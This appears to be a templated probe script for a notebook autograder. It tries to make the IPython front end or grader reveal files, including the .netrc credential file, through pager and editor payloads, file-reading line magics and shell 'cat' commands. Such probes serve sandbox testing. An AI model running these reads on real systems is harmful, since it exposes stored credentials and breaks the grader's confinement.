"""Asks the front end, and so the grader, to open files for it: pager, editor, next input, magics."""

shell = get_ipython()
for path in ("@COURSE@/notes.txt", "@HOME@/.netrc"):
    for payload in (
        {"source": "page", "data": {"text/plain": f"file://{path}"}, "start": 0},
        {"source": "edit_magic", "filename": path, "line_number": 1},
        {"source": "set_next_input", "text": f"print(open({path!r}).read())", "replace": True},
    ):
        shell.payload_manager.write_payload(payload)
    for magic in ("load", "pycat", "less", "more", "pfile", "run -n"):
        try:
            shell.run_line_magic(*magic.split()[:1], path)
        except BaseException as error:
            print(type(error).__name__)
    shell.system(f"cat {path}")
    print(shell.getoutput(f"cat {path}"))
